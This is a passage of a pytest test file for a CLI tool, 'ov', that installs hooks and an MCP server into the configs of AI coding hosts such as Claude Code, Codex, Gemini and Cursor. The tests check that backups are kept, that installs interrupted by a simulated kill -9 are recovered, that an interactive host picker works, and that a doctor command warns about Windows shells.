    assert removed.exit_code == 0
    assert not settings.exists()  # the file ov made goes
    assert backup.read_text() == CLAUDE_SETTINGS  # the user's, before ov's first write: not ov's to delete
    assert str(backup) in removed.stdout  # and the uninstall says where it is
    # Installed again and uninstalled, the backup is still the file before ov's first write.
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert ov("uninstall", "hooks", "--host", "claude").exit_code == 0
    assert backup.read_text() == CLAUDE_SETTINGS


@pytest.mark.parametrize("host, name, flags", [("claude", "settings.json", ()), ("gemini", "settings.json", ("--with-mcp",))])
def test_a_dry_run_says_the_backup_an_uninstall_leaves_as_the_uninstall_does(ov, user_home, host, name, flags):
    """(found by an audit: the note that the user's file is kept in its .ov.bak came with the
    uninstall, never with its --dry-run; and Gemini's, one file for hooks and server, came twice)"""
    settings = user_home / f".{host}" / name
    backup = settings.with_name(f"{name}.ov.bak")
    assert ov("install", "hooks", "--host", host, *flags, "--yes").exit_code == 0
    settings.unlink()
    assert ov("install", "hooks", "--host", host, *flags, "--yes").exit_code == 0  # ov makes the file anew
    note = f"{host:8} {backup} keeps the file as it was before ov's first write"
    dry = ov("uninstall", "hooks", "--host", host, *flags, "--dry-run", "--json")
    assert dry.exit_code == 0 and settings.exists() and dry.json["result"]["notes"] == [note]
    assert note in ov("uninstall", "hooks", "--host", host, *flags, "--dry-run").stdout.splitlines()
    removed = ov("uninstall", "hooks", "--host", host, *flags, "--json")
    assert removed.exit_code == 0 and not settings.exists() and backup.is_file()
    assert removed.json["result"]["notes"] == dry.json["result"]["notes"]


@pytest.mark.parametrize("host, name", [("claude", "settings.json"), ("cursor", "hooks.json")])
def test_an_older_ovs_backup_of_a_file_ov_made_goes_with_the_file(ov, user_home, host, name):
    """An older ov rewrote the backup at a re-install: of a file ov had made, it holds ov's entries
    only (and Cursor's "version" ov added), and goes with the uninstall that removes the file."""
    settings = user_home / f".{host}" / name
    settings.unlink()
    assert ov("install", "hooks", "--host", host, "--yes").exit_code == 0
    backup = _older_backup(settings)
    removed = ov("uninstall", "hooks", "--host", host)
    assert removed.exit_code == 0 and "keeps the file" not in removed.stdout
    assert not settings.exists() and not backup.exists()


def test_an_mcp_file_removed_by_hand_is_said_and_its_receipt_dropped(ov, user_home):
    assert ov("install", "mcp", "--host", "cursor", "--yes").exit_code == 0
    mcp = user_home / ".cursor" / "mcp.json"
    mcp.unlink()
    check = _doctor(ov)[1]["cursor mcp (user)"]
    assert check["status"] == "warn" and check["detail"] == f"{mcp} no longer exists, but ov's receipt says its server was registered there"
    removed = ov("uninstall", "mcp", "--host", "cursor")
    assert removed.exit_code == 0 and f"cursor    already gone: {mcp}" in removed.stdout
    assert not _installs().exists() and "cursor mcp (user)" not in _doctor(ov)[1]


def test_the_installs_folder_stays_while_a_receipt_is_in_it(ov, user_home):
    assert ov("install", "hooks", "--host", "claude", "--host", "cursor", "--yes").exit_code == 0
    assert ov("uninstall", "hooks", "--host", "claude").exit_code == 0
    assert [p.name.split("-")[0] for p in _installs().iterdir()] == ["cursor"]
    assert ov("uninstall", "hooks", "--host", "cursor").exit_code == 0
    assert not _installs().exists() and Path(os.environ["OV_HOME"]).is_dir()


@pytest.fixture
def picker(ov, monkeypatch, tmp_path):
    """`ov install ...` on a terminal, its questionary picker fed KEYS through prompt_toolkit's pipe
    input: the real picker, its real key bindings."""
    from prompt_toolkit.application import create_app_session
    from prompt_toolkit.input import create_pipe_input
    from prompt_toolkit.output import DummyOutput

    monkeypatch.setenv("PATH", str(tmp_path / "nobin"))  # the hosts found are the folders user_home made

    def run(keys: str, *args: str):
        monkeypatch.setattr(sys.stdout, "isatty", lambda: True)  # the stdout capsys has in place now
        with create_pipe_input() as keyboard, create_app_session(input=keyboard, output=DummyOutput()):
            keyboard.send_text(keys)
            return ov("install", *args)

    return run


DOWN, SPACE, ENTER, CTRL_C, ESC = "\x1b[B", " ", "\r", "\x03", "\x1b"


def test_the_picker_installs_the_hosts_left_ticked(picker, user_home):
    result = picker(DOWN + SPACE + ENTER, "hooks")  # claude, gemini, cursor found, all ticked: untick gemini
    assert result.exit_code == 0, result.stderr
    assert "ov hook claude" in (user_home / ".claude" / "settings.json").read_text()
    assert "ov hook cursor" in (user_home / ".cursor" / "hooks.json").read_text()
    assert (user_home / ".gemini" / "settings.json").read_text() == GEMINI_SETTINGS


def test_the_picker_registers_the_mcp_server_with_the_hosts_ticked(picker, user_home):
    result = picker(DOWN + DOWN + SPACE + ENTER, "mcp", "--json")  # untick cursor
    assert result.exit_code == 0, result.stderr
    assert [f["host"] for f in result.json["result"]["files"]] == ["claude", "gemini"]
    assert "mcpServers" in (user_home / ".gemini" / "settings.json").read_text()
    assert not (user_home / ".cursor" / "mcp.json").exists()


@pytest.mark.parametrize("keys", [CTRL_C, ESC])
def test_leaving_the_picker_installs_nothing_and_says_so(picker, user_home, keys):
    before = _tree(user_home)
    result = picker(keys, "hooks")
    assert (result.exit_code, result.stdout, result.stderr) == (130, "", "cancelled: nothing installed\n")
    assert _tree(user_home) == before


def test_unticking_every_host_installs_nothing_and_says_so(picker, user_home):
    before = _tree(user_home)
    result = picker("a" + ENTER, "hooks")  # `a` toggles all: every host was ticked
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "no host chosen: nothing installed\n")
    assert _tree(user_home) == before
# --- an install or uninstall killed half-way (kill -9): what it leaves, the next one undoes ----------------


_KILLED_AT = {
    # the receipt about to be written
    "receipt": "import ov.hosts.receipts as r\nr._write_receipt = lambda path, receipt: os._exit(137)",
    # the host's file about to be written (its backup and receipt written)
    "file": (
        "import ov.hosts.receipts as r\nreal = r.atomic_write\n"
        "def write(path, data, **kw):\n"
        "    if path.parent.name != 'installs' and not path.name.endswith('.ov.bak'):\n        os._exit(137)\n"
        "    return real(path, data, **kw)\n"
        "r.atomic_write = write"
    ),
    # the host's file about to be renamed into place (its temporary file written beside it)
    "rename": (
        "real = os.replace\n"
        "def rename(src, dst, *a, **kw):\n"
        "    if os.path.basename(os.path.dirname(dst)) != 'installs' and not str(dst).endswith('.ov.bak'):\n        os._exit(137)\n"
        "    return real(src, dst, *a, **kw)\n"
        "os.replace = rename"
    ),
    # the trust about to be recorded in the receipt
    "record_trust": "import ov.hosts.receipts as r\nr.record_trust = lambda *a, **k: os._exit(137)",
    # Codex has just written the reviews of ov's hooks
    "reviews_written": (
        "import ov.hosts.gates as g\nreal = g._JsonRpc.call\n"
        "def call(self, method, params):\n    out = real(self, method, params)\n"
        "    if method == 'config/batchWrite' and 'hooks.state' in json.dumps(params):\n        os._exit(137)\n"
        "    return out\n"
        "g._JsonRpc.call = call"
    ),
}


def _killed(at: str, *args: str) -> None:
    """Run `ov ARGS...` in a process that dies like kill -9 at the step ``at`` names."""
    import subprocess

    script = f"import json, os, sys\n{_KILLED_AT[at]}\nsys.argv = ['ov', *sys.argv[1:]]\nfrom ov.cli.entry import entry\nentry()\n"
    proc = subprocess.run([sys.executable, "-c", script, *args], capture_output=True, timeout=60, check=False)
    assert proc.returncode == 137, proc.stderr.decode()


@pytest.mark.parametrize("host", ["claude", "codex"])
@pytest.mark.parametrize("at", ["receipt", "file"])
def test_an_install_killed_before_the_file_is_written_is_undone_byte_for_byte(ov, user_home, host, at):
    """An install killed between the host's file and its receipt left ov's entries in a file no
    receipt claimed: the re-install said "unchanged", the uninstall left a skeleton and a backup."""
    settings = user_home / (".claude/settings.json" if host == "claude" else ".codex/hooks.json")
    _killed(at, "install", "hooks", "--host", host, "--yes")
    assert (settings.read_text() if host == "claude" else settings.exists()) == (CLAUDE_SETTINGS if host == "claude" else False)
    if at == "receipt":  # else the uninstall alone undoes what the receipt says
        assert ov("install", "hooks", "--host", host, "--yes").exit_code == 0
        assert install.installed_entries(install.spec(host, "user", Path.cwd()))
    assert ov("uninstall", "hooks", "--host", host, "--yes").exit_code == 0
    if host == "claude":
        assert settings.read_text() == CLAUDE_SETTINGS
        assert not settings.with_name("settings.json.ov.bak").exists()
    else:
        assert not settings.parent.exists()
    assert not _installs().exists()


@pytest.mark.parametrize("at", ["record_trust", "reviews_written"])
def test_a_trust_install_killed_around_its_record_is_taken_out_by_the_uninstall(ov, user_home, fake_codex, at):
    """--trust wrote the reviews before recording them: killed in between, the re-install found
    them "already trusted", recorded nothing, and `uninstall --trust` left them in for good."""
    _killed(at, "install", "hooks", "--host", "codex", "--yes", "--trust")
    if at == "record_trust":  # the record comes first: nothing was written into Codex's config
        assert fake_codex.read_text() == USER_CODEX
    else:
        assert len(_toml(fake_codex)["hooks"]["state"]) == 5
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    removed = ov("uninstall", "hooks", "--host", "codex", "--trust", "--json")
    assert removed.exit_code == 0
    assert f"codex    takes the trust ov's --trust recorded out of {fake_codex}: 5 reviews of ov's hooks" in removed.json["result"]["notes"]
    assert fake_codex.read_text() == USER_CODEX and not _installs().exists()


def test_an_install_sweeps_the_temporary_files_a_killed_one_left(ov, user_home):
    """A write killed mid-way leaves its `.ov-tmp-*` file: in ov's folder of receipts (which the
    last uninstall then could not remove) and beside the host's file (a copy of the user's settings)."""
    _installs().mkdir(parents=True)
    in_home = _installs() / ".ov-tmp-0123456789ab"
    beside = user_home / ".claude" / ".ov-tmp-ba9876543210"
    young = user_home / ".claude" / ".ov-tmp-00000000abcd"  # perhaps another ov's, writing right now
    mine = user_home / ".claude" / ".ov-tmp-notes"  # not a name ov's writes give
    for path in (in_home, beside, young, mine):
        path.write_text(CLAUDE_SETTINGS)
    old = os.stat(beside).st_mtime - 3600
    for path in (in_home, beside, mine):
        os.utime(path, (old, old))
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert not in_home.exists() and not beside.exists()
    assert young.exists() and mine.exists()
    young.unlink()
    (_installs() / ".ov-tmp-ffffffffffff").write_text("{}")  # under the lock, however young: no other install runs
    assert ov("uninstall", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert not _installs().exists()
    assert (user_home / ".claude" / "settings.json").read_text() == CLAUDE_SETTINGS


class _Killed(BaseException):
    """kill -9, in-process: no handler of ov's catches it (it is no Exception); only `finally`
    blocks run, such as the install lock's release, which the kernel does for a killed process."""


@contextmanager
def _killed_at(step: int):
    """The installer's file-system steps counted (a file written, a file removed, a folder
    removed); the ``step``-th raises :class:`_Killed` instead of being done."""
    from ov.hosts import receipts

    count = [0]

    def counted(real):
        def step_of(*args, **kwargs):
            count[0] += 1
            if count[0] == step:
                raise _Killed
            return real(*args, **kwargs)

        return step_of

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(receipts, "atomic_write", counted(receipts.atomic_write))
        patch.setattr(receipts, "_unlink", counted(receipts._unlink))
        patch.setattr(Path, "rmdir", counted(Path.rmdir))
        yield


def _restore(root: Path, tree: dict[str, bytes]) -> None:
    """``root`` made to hold exactly ``tree`` (:func:`_tree`) again (in place: it holds the cwd)."""
    for path in sorted(root.rglob("*"), key=lambda p: len(p.parts), reverse=True):
        if str(path.relative_to(root)) not in tree:
            path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
    for name, data in tree.items():
        if data == b"<dir>":
            (root / name).mkdir(parents=True, exist_ok=True)
        else:
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_bytes(data)


# What each sweep installs and uninstalls: a file of the user's (its backup beside it), a new file in
# a new folder, a project's file (its backup in ov's home), and one file that holds both the hooks
# and the server (the uninstall of the one hands the file and its backup over to the other).
_SWEPT = {
    "user-file": (["hooks", "--host", "claude"], []),
    "new-file-and-folder": (["hooks", "--host", "codex"], []),
    "project-file": (["hooks", "--host", "claude", "--scope", "project"], []),
    "shared-file": (["hooks", "--host", "gemini"], ["--with-mcp"]),
}


@pytest.mark.parametrize("then", ["uninstall", "install"])
@pytest.mark.parametrize("killed", ["install", "uninstall"])
@pytest.mark.parametrize("case", list(_SWEPT))
def test_an_install_or_uninstall_killed_at_any_step_is_finished_by_the_next_command(ov, user_home, project, case, killed, then):
    """Killed at each of its steps in turn, an install or an uninstall leaves what the next
    uninstall (or install, then uninstall) settles: every file as the user had it, byte for byte,
    no backup, no receipt, no folder of ov's. The uninstall removed a backup before its receipt: killed in
    between, the next install found the receipt, kept the backup that was gone, and none was left."""
    args, extra = _SWEPT[case]
    roots = (user_home, project)
    pristine = [_tree(root) for root in roots]
    original = (project / ".claude" / "settings.json" if "project" in args else user_home / ".claude" / "settings.json").read_bytes()
    step = 0
    while True:
        step += 1
        for root, tree in zip(roots, pristine):
            _restore(root, tree)
        shutil.rmtree(_installs(), ignore_errors=True)
        if killed == "uninstall":
            assert ov("install", *args, "--yes", *extra).exit_code == 0
        try:
            with _killed_at(step):
                ov(killed, *args, *(["--yes"] if killed == "install" else []), *extra)
        except _Killed:
            pass
        else:
            break  # a run with fewer steps: every step has been a kill point
        if then == "install":
            assert ov("install", *args, "--yes", *extra).exit_code == 0, f"step {step}"
            if case in ("user-file", "project-file"):
                assert install.backup_path(install.spec("claude", "project" if "project" in args else "user", project), _installs()).read_bytes() == original, f"step {step}: the backup"
        finished = ov("uninstall", *args, *extra, "--json")
        assert finished.exit_code == 0, f"step {step}: {finished.stderr}"
        assert [_tree(root) for root in roots] == pristine, f"killed at step {step}"
        assert not _installs().exists(), f"step {step}: {sorted(p.name for p in _installs().iterdir())}"
    assert step > 3  # the sweep did reach the file and the receipt


def test_an_install_killed_before_a_new_file_says_it_never_finished(ov, user_home):
    """It said the file "no longer exists… ov forgets its install there", words for a file the user
    removed by hand, of a file that never was; and doctor said the hooks "were installed there"."""
    hooks = user_home / ".codex" / "hooks.json"
    _killed("file", "install", "hooks", "--host", "codex", "--yes")
    assert not hooks.exists() and len(list(_installs().glob("*.json"))) == 1
    check = _doctor(ov)[1]["codex hooks (user)"]
    assert (check["status"], check["detail"]) == ("warn", f"{hooks} was never written: an install stopped before it wrote the file")
    assert check["fix"] == "ov install hooks --host codex --scope user installs them; ov uninstall hooks --host codex --scope user drops ov's receipt of it"
    removed = ov("uninstall", "hooks", "--host", "codex", "--json")
    assert removed.exit_code == 0
    report = removed.json["result"]
    assert [(f["file"], f["changed"], f.get("action")) for f in report["files"]] == [(str(hooks), False, "never written")]
    assert report["notes"] == [f"codex    {hooks} was never written: an install stopped before it wrote the file, so there is nothing to give back, and ov drops its receipt"]
    assert not (user_home / ".codex").exists() and not _installs().exists()  # the outcome is as it was


@pytest.mark.parametrize("kind", ["hooks", "mcp"])
def test_an_install_killed_at_the_rename_and_undone_at_once_leaves_nothing(ov, user_home, kind):
    """(found by a review) Its temporary file, under a minute old, was left for the next install's
    sweep, and with it the folder: the uninstall had dropped the receipt that named them."""
    folder = user_home / ".codex"
    _killed("rename", "install", kind, "--host", "codex", "--yes")
    assert [p.name[:8] for p in folder.iterdir()] == [".ov-tmp-"]  # the file's copy, not renamed
    assert ov("uninstall", kind, "--host", "codex").exit_code == 0
    assert not folder.exists() and not _installs().exists()


def test_a_new_files_receipt_is_unmarked_once_the_file_is_written(ov, user_home):
    """The mark is the install's own: once the file is there, a hand removal is told as one."""
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    (receipt,) = _installs().glob("*.json")
    assert "file_unwritten" not in json.loads(receipt.read_text())
    (user_home / ".codex" / "config.toml").unlink()
    assert "no longer exists, but ov's receipt says its server was registered there" in _doctor(ov)[1]["codex mcp (user)"]["detail"]
    removed = ov("uninstall", "mcp", "--host", "codex")
    assert f"codex     already gone: {user_home / '.codex' / 'config.toml'}" in removed.stdout


@pytest.mark.slow
@pytest.mark.parametrize("killed", ["install", "uninstall"])
def test_a_real_kill_9_at_each_file_step_is_finished_by_the_next_command(ov, user_home, tmp_path, killed):
    """SIGKILL right before each rename, replace, unlink, fsync, mkdir or rmdir of an install or an
    uninstall of a file of the user's (Claude Code's) and of a new one in a new folder (Codex's),
    deterministic through tests/crashpoint.py; then the next uninstall, or an install and an
    uninstall, must give every file back byte for byte and leave nothing of ov's."""
    from ov.hosts.receipts import STALE_TEMP_AGE
    from tests import crashpoint

    args = ["hooks", "--host", "claude", "--host", "codex"]
    pristine = _tree(user_home)
    original = (user_home / ".claude" / "settings.json").read_bytes()
    env, trace = dict(os.environ), tmp_path / "trace.jsonl"
    command = [killed, *args, *(["--yes"] if killed == "install" else [])]

    def reset() -> None:
        _restore(user_home, pristine)
        shutil.rmtree(_installs(), ignore_errors=True)
        if killed == "uninstall":
            assert ov("install", *args, "--yes").exit_code == 0

    def age_temporary_files() -> None:
        """A minute passes: the next install or uninstall takes a killed write's temporary file beside a host's file for stale."""
        for path in user_home.rglob(".ov-tmp-*"):
            old = path.stat().st_mtime - STALE_TEMP_AGE - 1
            os.utime(path, (old, old))

    reset()
    calls = crashpoint.count_calls(command, Path(os.environ["OV_HOME"]), env, trace, tmp_path)
    assert any(call.op in ("replace", "unlink") and call.args[-1].endswith(".codex/hooks.json") for call in calls)  # the sweep reaches the files
    failures = []
    for point in range(1, len(calls) + 1):
        for then in ("uninstall", "install"):
            reset()
            run = crashpoint.run_killed(command, Path(os.environ["OV_HOME"]), env, point, trace, tmp_path)
            assert run.killed, f"#{point}: {run.stderr[-500:]}"
            age_temporary_files()
            if then == "install":
                backup = user_home / ".claude" / "settings.json.ov.bak"
                if ov("install", *args, "--yes").exit_code != 0 or not backup.is_file() or backup.read_bytes() != original:
                    failures.append(f"{run.call}, then install: no backup of the user's file")
            finished = ov("uninstall", *args)
            if finished.exit_code != 0 or _tree(user_home) != pristine or _installs().exists():
                failures.append(f"{run.call}, then {then}: {finished.stderr or sorted(set(_tree(user_home)) ^ set(pristine))}")
    assert not failures, "\n".join(failures)


# --- ov's home wiped while its hooks stay installed --------------------------------------------------


@pytest.mark.parametrize("scope", ["user", "project"])
def test_an_install_whose_receipts_went_with_ov_home_is_taken_out_whole(ov, user_home, project, fake_codex, scope):
    """(found by an audit: a re-install after ov's home was removed found its entries "unchanged"
    and recorded a receipt that created nothing, so the uninstall left empty hook lists, a
    hooks.json of empty lists, `{"mcpServers": {}}`, the reviews and the backups behind)"""
    _folder, flags = _where(scope, user_home, project)
    trust = ["--trust"] if scope == "user" else []
    before = _tree(user_home) | {f"project/{k}": v for k, v in _tree(project).items()}
    assert ov("install", "hooks", *_hosts_args(), *flags, "--yes", "--with-mcp", *trust).exit_code == 0
    installed = _tree(user_home) | {f"project/{k}": v for k, v in _tree(project).items()}
    shutil.rmtree(os.environ["OV_HOME"])
    again = ov("install", "hooks", *_hosts_args(), *flags, "--yes", "--with-mcp", *trust, "--json")
    assert again.exit_code == 0, again.stderr
    assert not [f for f in again.json["result"]["files"] if f["changed"]]
    assert _tree(user_home) | {f"project/{k}": v for k, v in _tree(project).items()} == installed
    removed = ov("uninstall", "hooks", *_hosts_args(), *flags, "--with-mcp", *trust)
    assert removed.exit_code == 0, removed.stderr
    # Every file as it was, the ones ov made gone. Only the folders ov made stay (empty): which
    # folders it made was in the receipts.
    after = {k: v for k, v in (_tree(user_home) | {f"project/{k}": v for k, v in _tree(project).items()}).items() if v != b"<dir>" or k in before}
    assert after == before, {k: (before.get(k), after.get(k)) for k in before.keys() | after.keys() if before.get(k) != after.get(k)}


def test_a_list_the_user_had_empty_stays_when_the_backup_says_it_was_theirs(ov, user_home):
    """What only ov's entries filled goes, unless the file before ov (its backup) had it."""
    settings = user_home / ".claude" / "settings.json"
    own = CLAUDE_SETTINGS.replace('"hooks": {\n', '"hooks": {\n    "SessionStart": [],\n', 1)
    settings.write_text(own)
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    shutil.rmtree(os.environ["OV_HOME"])
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert ov("uninstall", "hooks", "--host", "claude").exit_code == 0
    assert settings.read_text() == own and not settings.with_name("settings.json.ov.bak").exists()


def test_an_uninstall_leaves_a_file_without_ovs_entries_as_it_is(ov, user_home):
    """A file ov finds nothing of its own in is not ov's to remove, even with no backup of it."""
    settings = user_home / ".claude" / "settings.json"
    settings.write_text("{}\n")
    (user_home / ".claude.json").write_text('{"mcpServers": {}}\n')
    before = _tree(user_home)
    assert ov("uninstall", "hooks", "--host", "claude", "--with-mcp").exit_code == 0
    assert _tree(user_home) == before


def test_doctor_on_windows_says_a_projects_env_entries_fail_where_the_host_runs_no_posix_shell(ov, project, tmp_path, monkeypatch):
    """Codex runs hooks through cmd.exe on Windows and Gemini CLI through PowerShell: a project's
    entries written on macOS or Linux (`env OV_HOOK_SCOPE=project ov hook …`, Gemini's bash guard)
    cannot start there. Claude Code runs them through Git Bash, which has `env`."""
    from ov.hosts import doctor

    monkeypatch.delenv("OV_HOME")
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", "--host", "claude", "--host", "codex", "--host", "gemini", "--scope", "project", "--yes").exit_code == 0
    assert not [name for name in _checks(ov) if name.endswith("on Windows")]  # not on this system
    monkeypatch.setattr(doctor, "_windows", lambda: True)
    checks = {name: c for name, c in _checks(ov).items() if name.endswith("on Windows")}
    assert sorted(checks) == ["codex hooks (project) on Windows", "gemini hooks (project) on Windows"]
    codex = checks["codex hooks (project) on Windows"]
    assert codex["status"] == "warn" and "cmd.exe" in codex["detail"] and "they fail on this machine" in codex["detail"]
    assert codex["fix"].startswith("ov install hooks --host codex ")
    assert "PowerShell" in checks["gemini hooks (project) on Windows"]["detail"]
    assert "keep failing" in codex["fix"]
    # Cursor does not say which shell it runs hooks through there: a doubt, not a failure.
    assert ov("install", "hooks", "--host", "cursor", "--scope", "project", "--yes").exit_code == 0
    cursor = _checks(ov)["cursor hooks (project) on Windows"]
    assert "may have neither" in cursor["detail"] and "may fail" in cursor["fix"] and "keep failing" not in cursor["fix"]
    # Entries without `env` (a user's, installed on Windows) are not reported.
    from ov.hosts import install

    assert not install.needs_posix_shell("ov hook codex stop") and not install.needs_posix_shell(r"C:\ov\Scripts\ov.exe hook codex stop")
    assert install.needs_posix_shell("env OV_HOOK_SCOPE=project ov hook codex stop")
    assert install.needs_posix_shell("shopt -s execfail; OV_HOOK_SCOPE=project exec ov hook gemini stop || exit 1")


# --- $XDG_CONFIG_HOME: only an absolute path ---------------------------------------------------


def test_a_relative_xdg_config_home_is_ignored_as_the_spec_says(ov, user_home, tmp_path, monkeypatch):
    """(found by an audit) A relative XDG_CONFIG_HOME put opencode's plugin below the current folder,
    where no opencode started elsewhere looks, nor an uninstall run from elsewhere. The XDG Base
    Directory spec: such a value is invalid and ignored."""
    from ov.hosts.hostconfig import config_dir

    assert config_dir("opencode", "user", Path(), {"HOME": str(user_home), "XDG_CONFIG_HOME": "relcfg"}) == user_home / ".config" / "opencode"
    assert config_dir("opencode", "user", Path(), {"HOME": str(user_home), "XDG_CONFIG_HOME": str(tmp_path / "cfg")}) == tmp_path / "cfg" / "opencode"
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("XDG_CONFIG_HOME", "relcfg")
    result = ov("install", "hooks", "--host", "opencode", "--yes", "--json")
    assert result.exit_code == 0, result.stderr
    assert [f["file"] for f in result.json["result"]["files"]] == [str(user_home / ".config" / "opencode" / "plugins" / "ov-memory.js")]
    assert os.listdir(cwd) == []
